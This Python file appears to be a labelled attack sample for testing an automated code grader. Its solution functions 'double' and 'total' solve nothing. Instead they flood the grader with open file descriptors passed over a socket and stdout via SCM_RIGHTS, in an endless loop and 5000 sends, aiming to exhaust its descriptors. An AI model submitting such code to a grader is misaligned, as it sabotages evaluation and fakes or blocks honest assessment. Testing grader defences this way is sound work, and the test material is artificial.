# /// attack
# title = "hands the grader open files, again and again, over the wire and over its output"
# aim = "descriptors of the grader's that run out"
# verdict = "time_limit"
# refused = true
# ///
import array
import sys

from wire_helper import channel

socket = sys.modules["socket"]


def double(x):
    wire = channel()
    kept = [open("/dev/null") for _ in range(20)]
    rights = array.array("i", [file.fileno() for file in kept])
    wire.sendmsg([b"\x00\x00\x00\x08\x03\xff\xff\xff"])
    while True:
        wire.sendmsg([b"\xc0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


def total(step, times):
    output = socket.socket(fileno=1)
    rights = array.array("i", [0, 1, 2])
    for _ in range(5000):
        output.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    return 0.0
